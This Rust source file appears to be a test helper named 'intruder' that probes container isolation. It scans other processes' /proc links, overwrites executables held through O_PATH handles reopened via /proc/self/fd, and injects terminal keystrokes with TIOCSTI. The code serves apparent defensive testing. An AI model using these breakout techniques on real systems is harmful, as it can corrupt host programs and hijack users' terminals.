//! What an attacker does inside a container, where a shell is too slow or knows no such call.
//!
//! `intruder watch`: looks into every process it sees, until the file `/stop` is there, and tells what it
//! could reach that is no program's of the container. `intruder overwrite`: holds the files that other
//! processes run, and overwrites them once `/stop` is there. `intruder push`: types into the terminal that
//! is its standard input.

use std::collections::BTreeSet;
use std::fs::{self, File, OpenOptions};
use std::io::Write;
use std::os::fd::AsRawFd;
use std::os::unix::fs::{MetadataExt, OpenOptionsExt};
use std::path::{Path, PathBuf};

use nix::errno::Errno;

fn main() {
    match std::env::args().nth(1).as_deref() {
        Some("watch") => watch(),
        Some("overwrite") => overwrite(),
        Some("push") => push(),
        _ => panic!("usage: intruder watch|overwrite|push"),
    }
}

/// The other processes, each by its directory in /proc.
fn others() -> impl Iterator<Item = PathBuf> {
    let number = |entry: &fs::DirEntry| entry.file_name().to_str()?.parse::<u32>().ok();
    let other =
        move |entry: &fs::DirEntry| number(entry).is_some_and(|pid| pid > 1 && pid != std::process::id());
    fs::read_dir("/proc").expect("/proc").flatten().filter(other).map(|entry| entry.path())
}

/// Calls `look` again and again, until it is told to stop.
fn until_stopped(mut look: impl FnMut()) {
    println!("ready");
    while !Path::new("/stop").exists() {
        look();
    }
}

fn watch() {
    let mut reached = BTreeSet::new();
    let (mut rounds, mut seen) = (0, BTreeSet::new());
    until_stopped(|| {
        rounds += 1;
        for process in others() {
            seen.insert(process.clone());
            let links = fs::read_dir(process.join("fd")).into_iter().flatten().flatten();
            let links =
                links.map(|entry| entry.path()).chain(["exe", "cwd", "root"].map(|name| process.join(name)));
            reached.extend(links.filter_map(|link| fs::read_link(link).ok()));
        }
    });
    println!("rounds {rounds}, processes {}", seen.len());
    for target in reached {
        println!("reached {}", target.display());
    }
}

fn overwrite() {
    let mine = fs::metadata("/proc/self/exe").expect("/proc/self/exe");
    let shell = fs::metadata("/bin/busybox").expect("busybox");
    let known = [(mine.dev(), mine.ino()), (shell.dev(), shell.ino())];
    let mut held: Vec<(File, u64)> = Vec::new();
    until_stopped(|| {
        for process in others() {
            let opened = OpenOptions::new().read(true).custom_flags(libc::O_PATH).open(process.join("exe"));
            let Ok(file) = opened else { continue };
            let Ok(about) = file.metadata() else { continue };
            let new = !known.contains(&(about.dev(), about.ino()))
                && held.iter().all(|(_, inode)| *inode != about.ino());
            if new {
                held.push((file, about.ino()));
            }
        }
    });
    println!("held {}", held.len());
    for (file, _) in held {
        let path = format!("/proc/self/fd/{}", file.as_raw_fd());
        let written =
            OpenOptions::new().write(true).open(path).and_then(|mut file| file.write_all(b"gotcha"));
        println!(
            "{}",
            written.map_or_else(|error| format!("not written: {error}"), |()| "written".to_owned())
        );
    }
}

#[allow(unsafe_code)]
fn push() {
    for letter in b"x\n" {
        // SAFETY: TIOCSTI reads one byte.
        let pushed = Errno::result(unsafe { libc::ioctl(0, libc::TIOCSTI, letter) });
        println!(
            "{}",
            pushed.map_or_else(|errno| format!("not pushed: {}", errno.desc()), |_| "pushed".to_owned())
        );
    }
}
